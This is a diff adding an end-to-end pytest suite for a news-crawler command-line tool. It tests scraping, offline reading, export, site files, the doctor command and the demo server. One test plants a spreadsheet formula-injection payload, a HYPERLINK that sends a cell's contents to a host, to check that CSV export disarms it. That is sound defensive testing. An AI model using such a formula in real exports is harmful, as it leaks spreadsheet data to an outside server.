@@ -1,0 +1,468 @@
+"""The commands beside `crawl`: scrape, read, export, why, sites, doctor, demo, archive; and how all of them are used."""
+
+from __future__ import annotations
+
+import csv
+import gzip
+import json
+import re
+import signal
+import subprocess
+from collections.abc import Callable
+from contextlib import closing
+from datetime import timedelta
+from io import StringIO
+from pathlib import Path
+from urllib.request import urlopen
+
+import pytest
+
+from newsbot.article import Access, Article, Crawl, Delivered
+from newsbot.cli.app import app
+from newsbot.demo.server import Demo
+from newsbot.demo.shapes import Kind
+from newsbot.sites.catalog import read_site_file
+from newsbot.store.base import Query
+from newsbot.store.opening import open_store
+from newsbot.store.outbox import Outbox
+from newsbot.store.parcels import Parcel
+from tests.e2e.process import NEWSBOT, ROOT, Command, Running, without_traceback
+from tests.e2e.servers import Server, feed, news, page
+from tests.processes import watched
+
+README = str(ROOT / "README.md")
+COMMANDS = ["crawl", "archive", "scrape", "read", "why", "export", "demo", "doctor"]
+SITES = ["list", "show", "add", "check"]
+
+
+def one(demo: Demo, kind: Kind) -> str:
+    """The address of an article of a kind."""
+    return demo.url + demo.newspaper.of_kind(kind)[0].path
+
+
+# ── how commands are used ──
+
+
+@pytest.mark.parametrize("words", [[], *([each] for each in [*COMMANDS, "sites"]), *(["sites", each] for each in SITES)])
+def test_help(newsbot: Command, words: list[str]) -> None:
+    done = newsbot(*words, "--help")
+    assert (done.returncode, done.stderr) == (0, "")
+    assert "Usage: newsbot" in done.stdout
+
+
+def test_every_command_is_tested_for_its_help() -> None:
+    named = {command.name or (command.callback.__name__ if command.callback else "") for command in app.registered_commands}
+    assert named == set(COMMANDS)
+
+
+def test_version(newsbot: Command) -> None:
+    done = newsbot("--version")
+    assert done.returncode == 0
+    assert re.fullmatch(r"newsbot \d+\.\d+\.\d+\n", done.stdout)
+
+
+@pytest.mark.parametrize(
+    "words",
+    [
+        ["crawl"],
+        ["crawl", "--frobnicate"],
+        ["crawl", "no-such-site"],
+        ["crawl", "https://"],
+        ["crawl", "demo", "--limit", "0"],
+        ["crawl", "--from", "/no/such/file"],
+        ["scrape"],
+        ["scrape", "ftp://example.com/x"],
+        ["scrape", "not an address"],
+        ["archive", "demo"],
+        ["archive", "demo", "--since", "yesterday"],
+        ["archive", "demo", "--since", "2026-11-02", "--until", "2026-11-01"],
+        ["read", "/no/such/file", "--url", "https://www.example.com/a"],
+        ["read", README],
+        ["read", README, "--url", "example"],
+        ["why", "example"],
+        ["why", "https://www.example.com/"],
+        ["export", "-f", "xml"],
+        ["export", "--store", "sqlite:////no/such/store.sqlite"],
+        ["sites", "show", "no-such-site"],
+        ["sites", "check", "/no/such/file.yml"],
+        ["no-such-command"],
+    ],
+)
+def test_wrong_usage_is_told_and_exits_1(newsbot: Command, words: list[str]) -> None:
+    done = without_traceback(newsbot(*words))
+    assert (done.returncode, done.stdout) == (1, "")
+    assert "fix:" in done.said or "Try 'newsbot" in done.said
+
+
+# ── scrape ──
+
+
+def test_scrape_prints_json_lines_and_nothing_else(newsbot: Command, demo: Demo) -> None:
+    urls = [one(demo, Kind.FREE), one(demo, Kind.LOCKED)]
+    done = newsbot("scrape", *urls, "--delay", "0")
+    assert done.returncode == 0
+    assert {each["url"]: each["access"]["delivered"] for each in done.lines} == {
+        urls[0]: "full",
+        urls[1]: "partial_teaser",
+    }
+
+
+def test_scrape_tells_what_it_could_not_get(newsbot: Command, demo: Demo) -> None:
+    bad = [f"{demo.url}/_demo/{path}" for path in ("status/404", "status/418", "empty", "loop")]
+    bad += [f"{demo.url}/private/newsroom", "http://nowhere.invalid/x", "http://127.0.0.1:1/x"]
+    done = without_traceback(newsbot("scrape", one(demo, Kind.FREE), *bad, "--delay", "0"))
+    assert done.returncode == 2
+    assert len(done.lines) == 1
+    told = done.said.replace(" ", "")
+    for url in bad:
+        assert url in told
+    for words in ("404", "418", "empty", "redirects without end", "robots.txt", "DNS", "refuses the connection"):
+        assert words in done.said
+
+
+def test_scrape_reads_addresses_from_a_file_and_each_once(newsbot: Command, tmp_path: Path) -> None:
+    with Server({f"/news/{number}": news(number) for number in range(3)}) as server:
+        listed = [f"{server.url}/news/1", "# not this one", "", f"{server.url}/news/2?utm_source=feed", listed_twice(server)]
+        (tmp_path / "urls.txt").write_text("\n".join(listed))
+        done = newsbot("scrape", f"{server.url}/news/0", "--from", str(tmp_path / "urls.txt"), "--delay", "0")
+        assert done.returncode == 0
+        assert sorted(each["headline"][:14] for each in done.lines) == [f"Ferry number {number}" for number in range(3)]
+        assert server.count("/news/") == 3
+
+
+def listed_twice(server: Server) -> str:
+    return f"{server.url}/news/2#comments"
+
+
+def test_scrape_keeps_only_where_it_is_told_to(newsbot: Command, demo: Demo, uri: str, environment: dict) -> None:
+    newsbot("scrape", one(demo, Kind.FREE), "--delay", "0")
+    assert not list(Path(environment["NEWSBOT_DATA"]).glob("news*.sqlite"))
+    newsbot("scrape", one(demo, Kind.FREE), "--delay", "0", "--store", uri)
+    with open_store(uri) as store:
+        assert [article.url for article in store.find(Query())] == [one(demo, Kind.FREE)]
+
+
+# ── read ──
+
+
+@pytest.mark.parametrize("form", ["file", "gz", "stdin"])
+def test_read_is_offline(
+    newsbot: Command, environment: dict[str, str], tmp_path: Path, form: str
+) -> None:
+    file = tmp_path / "page.html"
+    file.write_bytes(gzip.compress(page(7).encode()) if form == "gz" else page(7).encode())
+    watching, network = watched(environment, tmp_path / "watch")
+    name, given = ("-", file.read_text()) if form == "stdin" else (str(file), None)
+    done = newsbot("read", name, "--url", "https://www.example.com/7", stdin=given, **watching)
+    assert done.returncode == 0
+    article = json.loads(done.stdout)
+    assert article["headline"] == "Ferry number 7 leaves the harbour of Saltmere"
+    assert article["datePublished"].startswith("2026-11-01T07:30:00")
+    assert not {line for line in network() if not line.startswith("bind ::1 0")}, "a library looks if there is IPv6"
+
+
+def test_read_explains_itself(newsbot: Command, demo: Demo, tmp_path: Path) -> None:
+    with urlopen(one(demo, Kind.LOCKED)) as answer:
+        (tmp_path / "page.html").write_bytes(answer.read())
+    done = newsbot("read", str(tmp_path / "page.html"), "--url", one(demo, Kind.LOCKED), "--explain")
+    assert done.returncode == 0
+    assert demo.newspaper.of_kind(Kind.LOCKED)[0].headline in " ".join(done.stdout.split())
+    assert "partial_teaser" in done.stdout
+    assert "How the access verdict came about" in done.stdout
+
+
+@pytest.mark.parametrize("content", [b"", b"\x00\x01" * 999, b'{"a": 1}', b"\x1f\x8b broken", b"<rss></rss>"])
+def test_read_of_what_is_no_page(newsbot: Command, tmp_path: Path, content: bytes) -> None:
+    (tmp_path / "page.html").write_bytes(content)
+    done = without_traceback(newsbot("read", str(tmp_path / "page.html"), "--url", "https://www.example.com/"))
+    assert (done.returncode, done.stdout) == (1, "")
+    assert "error:" in done.said
+
+
+# ── export and why ──
+
+
+def test_export_of_everything(newsbot: Command, filled: str) -> None:
+    done = newsbot("export", "--store", filled)
+    with open_store(filled) as store:
+        assert [each["url"] for each in done.lines] == [article.url for article in store.find(Query())]
+    assert f"{len(done.lines)} articles exported" in done.said
+
+
+def test_export_filters(newsbot: Command, filled: str, demo: Demo) -> None:
+    teasers = newsbot("export", "--store", filled, "--delivered", "partial_teaser").lines
+    assert teasers
+    assert {each["access"]["delivered"] for each in teasers} == {"partial_teaser"}
+    german = newsbot("export", "--store", filled, "--language", "de").lines
+    assert [each["url"] for each in german] == [one(demo, Kind.GERMAN)]
+    day = sorted(piece.published for piece in demo.newspaper.articles)[-1].date()
+    newest = newsbot("export", "--store", filled, "--since", str(day), "--until", str(day + timedelta(days=1))).lines
+    assert newest
+    assert all(each["datePublished"].startswith(str(day)) for each in newest)
+    assert len(newsbot("export", "--store", filled, "--limit", "3").lines) == 3
+    assert newsbot("export", "--store", filled, "--site", "nobody").stdout == ""
+
+
+def test_export_as_csv_disarms_formulas(newsbot: Command, uri: str) -> None:
+    evil = "=HYPERLINK(\"http://127.0.0.1/?\"&A1)"
+    access = Access(delivered=Delivered.FULL)
+    with open_store(uri) as store:
+        for number, headline in enumerate([evil, "+1", "-2", "@SUM(A1)", "Said, “quoted”\nand broken"]):
+            store.save([Article(url=f"http://a.example/{number}", headline=headline, access=access, crawl=Crawl(site="a"))])
+    done = newsbot("export", "-f", "csv", "--store", uri)
+    rows = {row["url"][-1]: row["headline"] for row in csv.DictReader(StringIO(done.stdout))}
+    assert rows == {"0": f"'{evil}", "1": "'+1", "2": "'-2", "3": "'@SUM(A1)", "4": "Said, “quoted”\nand broken"}
+
+
+def test_export_to_a_file(newsbot: Command, filled: str, tmp_path: Path) -> None:
+    target = tmp_path / "news.jsonl"
+    done = newsbot("export", "--store", filled, "-o", str(target))
+    assert (done.returncode, done.stdout) == (0, "")
+    assert len(target.read_text().splitlines()) > 30
+    assert [path.name for path in tmp_path.glob("*.part")] == []
+    before = target.read_bytes()
+    broken = without_traceback(newsbot("export", "--store", filled, "-o", str(target / "below")))
+    assert broken.returncode == 1
+    assert "--output" in broken.said
+    assert target.read_bytes() == before
+
+
+def test_export_into_a_pipe_that_closes(filled: str, environment: dict[str, str]) -> None:
+    command = " ".join([*NEWSBOT, "export", "--store", filled])
+    done = subprocess.run(
+        ["bash", "-c", f"{command} | head -n 1; exit ${{PIPESTATUS[0]}}"],
+        env=environment,
+        capture_output=True,
+        text=True,
+        timeout=60,
+        check=False,
+    )
+    assert len(done.stdout.splitlines()) == 1
+    assert "Traceback" not in done.stderr
+    assert "Exception ignored" not in done.stderr
+    assert done.returncode == 0
+
+
+@pytest.mark.parametrize("to", ["/dev/full"])
+def test_export_to_a_full_disk(filled: str, environment: dict[str, str], to: str) -> None:
+    with Path(to).open("w") as full:
+        done = subprocess.run(
+            [*NEWSBOT, "export", "--store", filled],
+            env=environment,
+            stdout=full,
+            stderr=subprocess.PIPE,
+            text=True,
+            timeout=60,
+            check=False,
+        )
+    assert done.returncode == 1
+    assert "Traceback" not in done.stderr
+    assert "Exception ignored" not in done.stderr
+    assert "no space left" in done.stderr.lower()
+
+
+def test_why_tells_the_story_of_an_article(newsbot: Command, filled: str, demo: Demo) -> None:
+    done = newsbot("why", one(demo, Kind.LOCKED), "--store", filled)
+    assert done.returncode == 0
+    said = " ".join(done.stdout.split())
+    assert "Now: teaser" in said
+    assert demo.newspaper.of_kind(Kind.LOCKED)[0].headline in said
+    assert "Version 1 of 1" in said
+
+
+def test_why_as_json(newsbot: Command, filled: str, demo: Demo) -> None:
+    story = json.loads(newsbot("why", one(demo, Kind.FREE), "--store", filled, "--json").stdout)
+    assert story["visit"]["state"] == "stored"
+    assert story["access"]["delivered"] == "full"
+    assert [each["status"] for each in story["history"]] == [200]
+
+
+def test_why_knows_what_it_does_not_know(newsbot: Command, filled: str) -> None:
+    done = newsbot("why", "https://www.example.com/never", "--store", filled)
+    assert (done.returncode, done.stdout) == (1, "")
+    assert "never seen" in done.said
+
+
+# ── sites ──
+
+
+def test_sites_list_and_show(newsbot: Command) -> None:
+    sites = json.loads(newsbot("sites", "list", "--json").stdout)
+    assert len(sites) == 173
+    austrian = json.loads(newsbot("sites", "list", "--country", "at", "--json").stdout)
+    assert "der-standard" in {site["site"] for site in austrian}
+    assert {site["country"] for site in austrian} == {"at"}
+    shown = newsbot("sites", "show", "der-standard")
+    assert shown.returncode == 0
+    assert "url: https://derstandard.at" in shown.stdout
+
+
+def test_sites_check_names_every_fault_of_every_file_with_its_line(newsbot: Command, environment: dict[str, str]) -> None:
+    folder = Path(environment["NEWSBOT_SITES"])
+    folder.mkdir()
+    (folder / "a.yml").write_text("name: A\nurl: https://a.example/\nfeed: [https://a.example/rss]\npoliteness:\n  delay: -1\n")
+    (folder / "b.yml").write_text("name: B\nurl: not-an-address\nselectors:\n  headline: 'h1['\n")
+    (folder / "c.yml").write_text("name: [unclosed\n")
+    done = without_traceback(newsbot("sites", "check"))
+    assert done.returncode == 1
+    for place in ("a.yml:3", "a.yml:5", "b.yml:2", "b.yml:4", "c.yml:"):
+        assert place in done.said.replace(" ", "")
+    assert "feeds" in done.said, "the cure for a typo is the word that was meant"
+    for words in (["crawl", "der-standard"], ["sites", "list"], ["read", README, "--url", "https://a.example/"]):
+        other = without_traceback(newsbot(*words))
+        assert (other.returncode, "a.yml:3" in other.said.replace(" ", "")) == (1, True)
+
+
+def test_sites_check_of_good_files(newsbot: Command) -> None:
+    done = newsbot("sites", "check")
+    assert (done.returncode, "173 bundled" in done.said) == (0, True)
+
+
+def test_sites_add_explores_and_writes_a_file_that_works(
+    newsbot: Command, demo: Demo, environment: dict[str, str], uri: str
+) -> None:
+    done = without_traceback(newsbot("sites", "add", f"{demo.url}/", "--delay", "0.01"))
+    assert done.returncode == 0, done.stderr
+    assert "What 8 of its articles gave" in done.stdout
+    (file,) = Path(environment["NEWSBOT_SITES"]).rglob("*.yml")
+    site = read_site_file(file).site
+    assert site.url.rstrip("/") == demo.url
+    assert f"{demo.url}/feeds/all.xml" in site.feeds
+    assert site.newsSitemaps
+    assert not list(Path(environment["NEWSBOT_DATA"]).glob("news*.sqlite")), "nothing is stored"
+    again = newsbot("sites", "add", f"{demo.url}/", "--delay", "0.01")
+    assert (again.returncode, "--force" in again.said) == (1, True)
+    crawled = newsbot("crawl", site.slug, "--store", uri, "--limit", "5", "--delay", "0.01", "--json")
+    assert (crawled.returncode, crawled.totals["new"]) == (0, 5)
+
+
+def test_sites_add_of_a_site_without_feeds(newsbot: Command, environment: dict[str, str], tmp_path: Path) -> None:
+    with Server({f"/2026/11/01/ferry-number-{number}-leaves-the-harbour": news(number) for number in range(9)}) as server:
+        links = "".join(f'<h2><a href="{path}">Ferry {path[23]} leaves the harbour at noon</a></h2>' for path in server.routes)
+        front = f"<!DOCTYPE html><html lang=en><title>Paper</title><main>{links}</main></html>"
+        server.routes["/"] = type(news(1))(front.encode())
+        target = tmp_path / "own.yml"
+        done = without_traceback(newsbot("sites", "add", server.url, "--delay", "0", "-o", str(target), "--name", "Paper"))
+        assert done.returncode == 0, done.stderr
+        assert read_site_file(target).site.name == "Paper"
+        shown = newsbot("sites", "add", server.url, "--delay", "0", "--dry-run")
+        assert "name:" in shown.stdout
+        assert not Path(environment["NEWSBOT_SITES"]).exists()
+
+
+def test_sites_add_of_what_is_no_newspaper(newsbot: Command) -> None:
+    with Server({"/": type(news(1))(b"<!DOCTYPE html><title>Shop</title><h1>Buy</h1>")}) as server:
+        done = without_traceback(newsbot("sites", "add", server.url, "--delay", "0"))
+    assert done.returncode == 1
+    assert "No article was found" in done.said
+    assert "fix:" in done.said
+
+
+# ── doctor ──
+
+
+def findings(newsbot: Command, **variables: str) -> tuple[int, dict[str, dict[str, str]]]:
+    done = without_traceback(newsbot("doctor", "--json", **variables))
+    return done.returncode, {each["what"]: each for each in json.loads(done.stdout)}
+
+
+def test_doctor_of_a_healthy_place(newsbot: Command, filled: str) -> None:
+    code, found = findings(newsbot, NEWSBOT_STORE=filled)
+    assert code == 0
+    assert "wrong" not in {each["state"] for each in found.values()}
+    assert re.search(r"holds \d+ articles", found["store"]["saw"])
+    assert "✓" in newsbot("doctor").stdout
+
+
+def test_doctor_finds_everything_that_is_wrong_at_once(newsbot: Command, environment: dict[str, str], tmp_path: Path) -> None:
+    (tmp_path / "file").write_text("no folder")
+    folder = Path(environment["NEWSBOT_SITES"])
+    folder.mkdir()
+    (folder / "bad.yml").write_text("name: B\nurl: nonsense\n")
+    code, found = findings(
+        newsbot, NEWSBOT_DATA=str(tmp_path / "file" / "data"), NEWSBOT_STORE="mongodb://u:geheim@127.0.0.1:1/news"
+    )
+    assert code == 1
+    assert {what for what, each in found.items() if each["state"] == "wrong"} >= {
+        "data folder",
+        "store",
+        "your own site files",
+    }
+    assert all(each["cure"] for each in found.values() if each["state"] == "wrong")
+    assert "bad.yml:2" in found["your own site files"]["saw"]
+    assert "geheim" not in json.dumps(found)
+
+
+@pytest.mark.parametrize("uri", ["postgres://x/y", "sqlite://news.sqlite", "mongodb://"])
+def test_doctor_of_a_wrong_store(newsbot: Command, uri: str) -> None:
+    code, found = findings(newsbot, NEWSBOT_STORE=uri)
+    assert (code, found["store"]["state"], bool(found["store"]["cure"])) == (1, "wrong", True)
+
+
+def test_doctor_tells_what_waits_in_the_outbox(newsbot: Command, environment: dict[str, str]) -> None:
+    folder = Path(environment["NEWSBOT_DATA"])
+    folder.mkdir()
+    with closing(Outbox(folder / "outbox.sqlite")) as outbox:
+        outbox.put("sqlite:////away.sqlite", [Parcel.of(Article(url="http://a.example/1", headline="A"), None)], "away")
+    _, found = findings(newsbot)
+    assert "1 entries wait" in found["outbox"]["saw"] or "1 entry waits" in found["outbox"]["saw"]
+
+
+@pytest.mark.parametrize("name", ["spiders", "pipelines"])
+def test_a_foreign_package_of_our_name(newsbot: Command, environment: dict[str, str], tmp_path: Path, name: str) -> None:
+    stranger = tmp_path / "elsewhere" / name
+    stranger.mkdir(parents=True)
+    (stranger / "__init__.py").write_text("")
+    path = f"{stranger.parent}:{environment['PYTHONPATH']}"
+    code, found = findings(newsbot, PYTHONPATH=path)
+    assert code == 1
+    assert str(stranger) in found["packages spiders and pipelines"]["saw"]
+    done = without_traceback(newsbot("crawl", "http://127.0.0.1:1/", PYTHONPATH=path))
+    assert done.returncode == 1
+    assert str(stranger) in done.said
+    assert "Uninstall" in done.said
+
+
+# ── demo and archive ──
+
+
+def test_demo_serves_until_ctrl_c(running: Callable[..., Running]) -> None:
+    with running("demo", "--port", "0") as demo:
+        address = re.search(r"http://127\.0\.0\.1:\d+", demo.line())
+        assert address is not None
+        with urlopen(f"{address[0]}/", timeout=30) as answer:
+            assert b"Saltmere" in answer.read()
+        demo.send(signal.SIGINT)
+        done = without_traceback(demo.end(15))
+    assert done.returncode == 0
+
+
+def test_demo_on_a_port_that_is_taken(newsbot: Command, demo: Demo) -> None:
+    done = without_traceback(newsbot("demo", "--port", demo.url.rpartition(":")[2]))
+    assert done.returncode == 1
+    assert "in use" in done.said
+
+
+def test_archive_stores_a_window(newsbot: Command, demo: Demo, uri: str) -> None:
+    days = sorted({piece.published.date() for piece in demo.newspaper.articles})
+    since, until = days[2], days[-3]
+    done = newsbot(
+        "archive", demo.url, "--since", str(since), "--until", str(until), "--store", uri, "--delay", "0.01", "--json"
+    )
+    assert done.returncode == 0, done.stderr
+    with open_store(uri) as store:
+        kept = list(store.find(Query()))
+    assert kept
+    assert all(since <= article.datePublished.date() < until for article in kept if article.datePublished)
+    inside = [piece for piece in demo.newspaper.articles if since < piece.published.date() < until]
+    assert {article.url for article in kept} >= {demo.url + piece.path for piece in inside if piece.kind is Kind.FREE}
+
+
+def test_a_crawl_of_sites_from_a_file(newsbot: Command, uri: str, tmp_path: Path) -> None:
+    with Server() as one_site, Server() as other:
+        for number, server in enumerate((one_site, other)):
+            server.routes |= {"/": feed([f"{server.url}/news/{number}"]), f"/news/{number}": news(number)}
+            (tmp_path / f"{number}.yml").write_text(f"name: Paper {number}\nurl: {server.url}/\nfeeds: ['{server.url}/']\n")
+        (tmp_path / "sites.txt").write_text(f"# mine\n{tmp_path}/0.yml\n\n{tmp_path}/1.yml\n")
+        done = newsbot("crawl", "--from", str(tmp_path / "sites.txt"), "--store", uri, "--delay", "0", "--json")
+    assert (done.returncode, done.totals["sites"], done.totals["new"]) == (0, 2, 2)
